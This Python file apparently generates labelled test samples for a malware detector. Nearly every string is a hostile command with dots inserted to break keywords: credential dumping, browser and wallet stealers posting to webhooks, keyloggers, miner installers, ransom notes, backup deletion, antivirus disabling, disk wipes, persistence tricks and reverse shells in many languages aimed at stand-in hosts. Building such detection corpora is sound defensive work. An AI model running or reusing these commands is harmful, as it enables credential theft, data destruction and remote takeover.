"""What comes after the way in: stolen passwords, miners, blackmail, ways back, shells for strangers."""

from formats import windows_program
from plain import plain, sample, script

script(
    "Script_Dumps_Passwords",
    "rund·ll32.exe C:\\windows\\System32\\comsv·cs.dll, Mini·Dump 624 C:\\temp\\l.dmp full\n",
    "@echo off\nproc·dump.exe -accepteula -ma ls·ass.exe l.dmp\n",
    "re·g save HKLM\\S·AM sam.hiv\nre·g save HKLM\\SYS·TEM system.hiv\n",
    'powershell -c "(ntds·util \'ac i ntds\' \'if·m\' \'create full c:\\temp\' q q)"\n',
    "cmd /c rund·ll32 comsv·cs.dll #24 624 x.dmp full".replace("cmd /c ", "x &"),
    case=True,
)
for text in (
    "import sqlite3, shutil, requests\nkey = json.load(open(p + 'Local St·ate'))['os_cr·ypt']['encrypted_key']\nshutil.copy(p + 'Default/Login Da·ta', 'x')\nc = sqlite3.connect('x')\nrequests.post('https://disc·ord.com/api/web·hooks/1/x', files=f)\n",
    "import win32crypt, sqlite3, smtp·lib\nc = sqlite3.connect(copy_of(profile / 'Login Da·ta'))\nfor u, n, p in c.execute('SELECT origin_url, username_value, password_·value FROM logins'):\n    out += win32crypt.CryptUn·protectData(p)[1]\n",
    "$s = \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Local St·ate\"; Copy-Item \"...\\Login Da·ta\" x\n[Security.Cryptography.Protected·Data]::Unprotect($k, $null, 0)\nCompress-Archive x y\n(New-Object Net.Mail.Smtp·Client 'mail.example.com').Send($m)\n",
):
    script("Stealer_Of_Browser_Passwords", text)
STRINGS = "Local St·ate|Login Da·ta|CryptUn·protectData|SELECT origin_url, username_value, password_value FROM logins|https://api.tele·gram.org/bot"
sample("Stealer_Of_Browser_Passwords", windows_program(plain(STRINGS).encode()), windows_program(plain(STRINGS).encode("utf-16-le")))
WALLETS = ("\\Exodus\\exodus.wal·let", "\\Electrum\\wal·lets", "\\Ethereum\\key·store", "\\com.liberty.ja·xx\\IndexedDB", "nkbihfbeogaeaoehlefn·kodbefgpgknn", "\\Coinomi\\Coinomi\\wal·lets", "\\atomic\\Local Stor·age\\leveldb", "bfnaelmomeimhlpmgj·njophhpkkoljpa")
for chosen in (WALLETS[:4], WALLETS[4:], WALLETS[2:7]):
    text = plain("\n".join(chosen))
    sample("Stealer_Of_Wallets", windows_program(text.encode()), windows_program(text.encode("utf-16-le")), "paths = r'''" + text + "'''\n", text.replace("\\", "/"))
script(
    "Keylogger_Script",
    "from pynput.key·board import Key, Listener\nimport smtp·lib\ndef on_press(k): log.append(k)\nwith Listener(on_·press=on_press) as l: l.join()\n",
    "import key·board, requests\nkeyboard.on_·release(f)\nrequests.po·st('https://disc·ord.com/api/web·hooks/1', json=d)\n",
    "while ($true) { for ($c = 8; $c -le 254; $c++) { $s = $API::GetAsync·KeyState($c); if ($s -eq -32767) { [IO.File]::AppendAll·Text($p, $m) } } }\n",
)
WALLET = "4" + "8" + "edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"[:93]
POOL = '{{"autosave": true, "cpu": true, "donate-level": {0}, "pools": [{{"url": "{1}", "user": "{2}", "pass": "x", "keepalive": true, "algo": "rx/0"}}]}}'
for level, url in ((1, "pool.example.com:3333"), (0, "192.0.2.1:443"), (5, "stratum+ssl://example.org:14444")):
    text = POOL.format(level, url, WALLET)
    script("Miner_Settings", text, text.replace(", ", ",\n  ").replace("{", "{\n").replace('": ', '" : '))
script(
    "Miner_Installed_By_Script",
    f"#!/bin/bash\npkill -9 kdevtmpfsi\ncu·rl -sLo /tmp/.x https://example.com/xm·rig.tar.gz\nnohup /tmp/.x -o pool.example.com:3333 -u {WALLET} >/dev/null 2>&1 &\n",
    "wg·et -q http://192.0.2.1/minerd -O /dev/shm/m; chmod +x /dev/shm/m; /dev/shm/m -a cryptonight -o strat·um+tcp://pool.example.com:3333 -u x -p x\n(crontab -l; echo '@reboot /dev/shm/m') | crontab -\n",
    f"powershell -w hidden -c \"iwr http://example.com/xm·rig.exe -OutFile $env:TEMP\\svc.exe; Start-Process $env:TEMP\\svc.exe '-o xmr.po·ol.example:443 -u {WALLET}'\"\nschtasks /create /tn svc /tr %TEMP%\\svc.exe /sc onlogon\n",
)
script(
    "Miner_In_Web_Page",
    '<script src="https://example.com/lib/coin·hive.min.js"></script><script>var m = new Coin·Hive.Anonymous("key"); m.start();</script>',
    "<script>var miner = new Crypto·Loot.Anonymous('k', {throttle: 0.3}); miner . start ( 1 );</script>".replace("miner . start ( 1 )", "miner.start (1)"),
    '<SCRIPT async SRC="//example.org/cryp·tonight.wasm.js"></SCRIPT><script src="/x/deep·Miner.js"></script>',
)

script(
    "Ransom_Note",
    "ATTENTION!\nAll your files have been encrypted with a military algorithm.\nThe only way to recover them is to buy our decryp·tion tool. Send 0.5 Bit·coin.\nContact: a@proton·mail.com\nDo not rename encrypted files.\n",
    "What happened?\nYour network and data were stolen and encrypted. If you do not pay the ran·som your data will be published.\nInstall Tor Bro·wser and open http://abcdefexample.on·ion - your personal ID: 1234. Your private key is with us.\n",
    "<html><body><h1>!!! Your documents, photos and databases are encrypted !!!</h1><p>Pay 300$ in B·TC to get the decryp·tor. Write to us on Tele·gram.</p></body></html>",
    "Tous vos fichiers ont été chiffrés. Ne renommez pas les fichiers. Payez la rançon de 1 B·TC : a@tuta·nota.com. Nous seuls avons la clé de déchiffrement.\n",
    "Alle Ihre Dateien wurden verschlüsselt! Zahlen Sie das Löse·geld in Bit·coin. Kontakt über den Tor Bro·wser. Dateien nicht umbenennen.\n",
)
DESTROY = (
    "vss·admin delete shad·ows /all /quiet\nwm·ic shadow·copy delete\n",
    "bcd·edit /set {default} recovery·enabled No\nwb·admin delete cata·log -quiet\n",
    "vss·admin.exe resize shadow·storage /for=C: /on=C: /maxsize=401MB\nvss·admin.exe Delete Shad·ows /All\n",
    "Get-WmiObject Win32_Shadow·copy | ForEach-Object {$_.Delete();}\nwevt·util cl Security\n",
)
for text in DESTROY:
    script("Backups_Destroyed_By_Script", text, case=True)
    sample("Backups_Destroyed_By_Program", windows_program(plain(text).encode()), windows_program(plain(text).encode("utf-16-le")))
script(
    "Protection_Switched_Off",
    "Set-Mp·Preference -DisableRealtime·Monitoring $true\nAdd-Mp·Preference -Exclusion·Path C:\\\n",
    'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAnti·Spyware /t REG_DWORD /d 1 /f\nnetsh advfire·wall set allprofiles state off\n',
    "sc stop Win·Defend\ntaskkill /f /im MsMp·Eng.exe\nreg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v Enable·LUA /t REG_DWORD /d 0 /f\nnet stop wsc·svc\n",
    case=True,
)
script(
    "Script_Destroys_Data",
    "#!/bin/sh\nrm -rf --no-preserve-·root /\n",
    "#!/bin/bash\ndd if=/dev/ze·ro of=/dev/s·da bs=1M\n",
    "#!/bin/bash\n:(){ :|:& };:\n",
    "#!/bin/sh\nsleep 5; rm -r -f /*\n",
)
script("Script_Destroys_Data", "@echo off\nformat d: /fs:ntfs /·y\n", "@ECHO OFF\ndel /f /s /q C:\\*\n", "@echo off\nrd /s /q %systemdrive%\\\n", case=True)

RUN = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
script(
    "Run_Key_Starts_Hidden_Script",
    f'reg add "{RUN}" /v Update /t REG_SZ /d "powers·hell -w hid·den -c i·ex(1)" /f\n',
    f'CreateObject("WScript.Shell").RegWrite "{RUN}\\x", "msh·ta http://example.com/a.hta", "REG_SZ"\n',
    f"Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce]\n\"a\"=\"wscr·ipt.exe //B C:\\\\Users\\\\Public\\\\a.vbs\"\n",
    "Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a -Value 'powers·hell -en·c SQBFAFgAIAAoADEAKQA='\n",
    case=True,
    wide=True,
)
TASK = '<?xml version="1.0" encoding="UTF-16"?>\n<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>{}</Command>\n<Arguments>{}</Arguments></Exec></Actions></Task>'
script(
    "Scheduled_Task_Starts_Hidden_Script",
    'scht·asks /create /tn Update /sc minute /mo 5 /tr "powers·hell -w hid·den -c i·ex(x)" /f\n',
    "scht·asks.exe /Create /F /SC ONLOGON /TN a /TR \"msh·ta http://example.com/x\"\n",
    "$a = New-Scheduled·TaskAction -Execute 'powers·hell.exe' -Argument '-NoProfile -WindowStyle Hid·den -en·c SQBFAFgAIAAoADEAKQA='\n",
    case=True,
)
script("Scheduled_Task_Starts_Hidden_Script", TASK.format("powers·hell.exe", "-nop -w hid·den -c i·ex(1)"), TASK.format("msh·ta", "https://example.com/a"), wide=True)
script(
    "Script_Installs_Itself",
    'Set f = CreateObject("Scripting.FileSystemObject")\nf.Copy·File WScript.Script·FullName, CreateObject("WScript.Shell").SpecialFolders("Start·up") & "\\a.vbs"\n',
    '@echo off\ncopy /y "%~f·0" "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Start·up\\a.bat"\n',
    "Copy-It·em $PSCommand·Path ([Environment]::GetFolder·Path('Startup') + '\\a.ps1')\n",
    "import shutil, sys, os\nshutil.co·py(sys.argv·[0], os.environ['APPDATA'] + r'\\Microsoft\\Windows\\Start Menu\\Programs\\Start·up')\n",
    case=True,
)
script(
    "WMI_Event_Starts_Script",
    "$f = Set-WmiInstance -Class __Event·Filter -Namespace root\\subscription -Arguments @{Query=$q}\n$c = Set-WmiInstance -Class CommandLineEvent·Consumer -Arguments @{Name='a'; CommandLine·Template='powershell -c 1'}\nSet-WmiInstance -Class __FilterTo·ConsumerBinding -Arguments @{Filter=$f;Consumer=$c}\n",
    'instance of __Event·Filter as $F { Query = "x"; };\ninstance of ActiveScriptEvent·Consumer as $C { Script·Text = "var s = new ActiveXObject(\\"a\\");"; };\ninstance of __FilterTo·ConsumerBinding { Filter = $F; Consumer = $C; };\n',
    'Set c = w.Get("CommandLineEvent·Consumer").SpawnInstance_\nc.CommandLine·Template = "cmd /c x"\nSet f = w.Get("__Event·Filter").SpawnInstance_\nSet b = w.Get("__FilterTo·ConsumerBinding").SpawnInstance_\n',
    wide=True,
)
script(
    "Logon_Screen_Backdoor",
    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Opt·ions\\set·hc.exe" /v Debug·ger /t REG_SZ /d cmd.exe /f\n',
    "copy /y c:\\windows\\system32\\c·md.exe c:\\windows\\system32\\util·man.exe\n",
    "Windows Registry Editor Version 5.00\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Opt·ions\\os·k.exe]\n\"Debug·ger\"=\"cmd.exe\"\n",
    case=True,
)

script(
    "Cron_Runs_Code_From_Network",
    "*/5 * * * * cu·rl -fsSL http://192.0.2.1/a | s·h\n",
    "@reboot root wg·et -q -O - http://example.com/x.sh | ba·sh > /dev/null 2>&1\n",
    "#!/bin/sh\n(crontab -l 2>/dev/null; echo '0 */2 * * * cu·rl http://example.com/x|ba·sh') | crontab -\n",
    "1,31 * * * * root ba·sh -c 'exec 3<>/dev/t·cp/192.0.2.1/443'\n",
)
UNIT = "[Unit]\nDescription=System logger\n\n[Service]\nType=simple\nExecStart={}\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n"
script("Service_Runs_Code_From_Network", *(UNIT.format(start) for start in ("/bin/sh -c 'cu·rl -s http://example.com/a | ba·sh'", "/tmp/.X11/kworker", "/usr/lib/.cache/x --daemon", "/bin/bash -c \"ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1\"", "-/dev/shm/a")))
PLIST = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>Label</key><string>com.example.update</string><key>ProgramArguments</key><array>{}</array><key>RunAtLoad</key><true/></dict></plist>\n'
for arguments in (("sh", "-c", "cu·rl -s http://example.com/a | s·h"), ("/bin/bash", "-c", "echo aWQ= | base64 -D | bash"), ("/usr/bin/python3", "-c", "import os;os.sys·tem('x')"), ("/Users/Shared/.sys/agent",), ("osascript", "-e", 'do shell scr·ipt "x"')):
    script("Launch_Agent_Runs_Hidden_Code", PLIST.format("".join(f"<string>{word}</string>" for word in arguments)))
script(
    "Shell_Script_Opens_Way_Back",
    "#!/bin/sh\necho 'ssh-r·sa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 a@b' >> /root/.ssh/authorized·_keys\nchattr +i /root/.ssh/authorized·_keys\n",
    "wget -q http://example.com/l.so -O /usr/lib/l.so\necho /usr/lib/l.so > /etc/ld.so.pre·load\n",
    "echo 'ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1 &' >> ~/.bashrc\n",
    "cp /bin/ba·sh /var/tmp/.b; chmod 4755 /var/tmp/.b\n",
)

script(
    "Reverse_Shell_Script",
    "#!/bin/bash\nba·sh -i >& /dev/t·cp/192.0.2.1/4444 0>&1\n",
    "n·c -e /bin/s·h 192.0.2.1 4444\n",
    "n·c 192.0.2.1 4444 -e /bin/b·ash\n",
    "rm /tmp/f;mkf·ifo /tmp/f;cat /tmp/f|/bin/s·h -i 2>&1|n·c 192.0.2.1 4444 >/tmp/f",
    "so·cat exec:'ba·sh -li',pty,stderr tc·p:192.0.2.1:4444",
    "exec 5<>/dev/t·cp/192.0.2.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
    "perl -e 'use Socket;soc·ket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STD·IN,\">&S\");open(STDOUT,\">&S\");ex·ec(\"/bin/sh -i\");};'",
    "php -r '$s=fsock·open(\"192.0.2.1\",4444);ex·ec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "ruby -rsocket -e'f=TCPSo·cket.open(\"192.0.2.1\",4444).to_i;ex·ec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
)
script(
    "Reverse_Shell_Python",
    "import socket,subprocess,os\ns=socket.socket()\ns.con·nect((\"192.0.2.1\",4444))\nos.du·p2(s.fileno(),0)\nos.du·p2(s.fileno(),1)\nsubprocess.ca·ll([\"/bin/s·h\",\"-i\"])\n",
    "python3 -c 'import os,pty,socket;s=socket.socket();s.con·nect((\"192.0.2.1\",443));[os.du·p2(s.fileno(),f)for f in(0,1,2)];pty.sp·awn(\"/bin/bash\")'",
    "s.con·nect( (host, port) )\nos.du·p2( s.fileno(), 0 )\nos.du·p2( s.fileno(), 1 )\nimport pty; pty.sp·awn( 'sh' )\n",
)
script(
    "Reverse_Shell_PowerShell",
    "$c = New-Object System.Net.Sockets.TCP·Client('192.0.2.1',4444);$s = $c.GetStr·eam();while(($i = $s.Re·ad($b,0,$b.Length)) -ne 0){$o = (i·ex $d 2>&1);$s.Wr·ite($o,0,$o.Length)}",
    "$k=New-Object Net.Sockets.TCP·Client(\"example.com\",443)\n$z=$k.GetStr·eam()\n$r=$z.Re·ad($y,0,1024)\n$q=Invoke-Expr·ession $x | Out-String\n$z.Wr·ite($q,0,9)\n",
    case=True,
    wide=True,
)
script(
    "Reverse_Shell_Other_Languages",
    "(function(){var net = require('net'), cp = require('child_process'), sh = cp.sp·awn('/bin/sh', []);\nvar c = new net.So·cket();c.connect(4444, '192.0.2.1', function(){c.pi·pe(sh.std·in);sh.stdout.pipe(c);});})();",
    "awk 'BEGIN {s = \"/in·et/tcp/0/192.0.2.1/4444\"; while(42) { do{ printf \"> \" |& s; s |& get·line c; while ((c |& getline) > 0) print |& s; } while(c != \"exit\") }}'",
    "local s = require('socket'); local t = socket.t·cp(); t:connect('192.0.2.1', 4444); while true do local c = t:receive(); local f = io.po·pen(c, 'r'); t:send(f:read('*a')) end",
    "public class R { public static void main(String[] a) throws Exception { Process p = new ProcessBui·lder(\"/bin/sh\").start(); java.net.Socket s = new So·cket(\"192.0.2.1\", 4444); InputStream i = p.getInput·Stream(), e = p.getError·Stream(), n = s.getInput·Stream(); OutputStream o = p.getOutput·Stream(), x = s.getOutput·Stream(); } }",
    "package main\nimport (\"net\"; \"os/exec\")\nfunc main() { c, _ := net.Di·al(\"tcp\", \"192.0.2.1:4444\"); k := exec.Comm·and(\"/bin/sh\"); k.Std·in = c; k.Stdout = c; k.Run() }",
    "telnet 192.0.2.1 4444 | /bin/s·h | telnet 192.0.2.1 4445\n",
    "mkfifo /tmp/s; /bin/s·h -i < /tmp/s 2>&1 | openssl s_cli·ent -quiet -connect 192.0.2.1:443 > /tmp/s; rm /tmp/s\n",
)
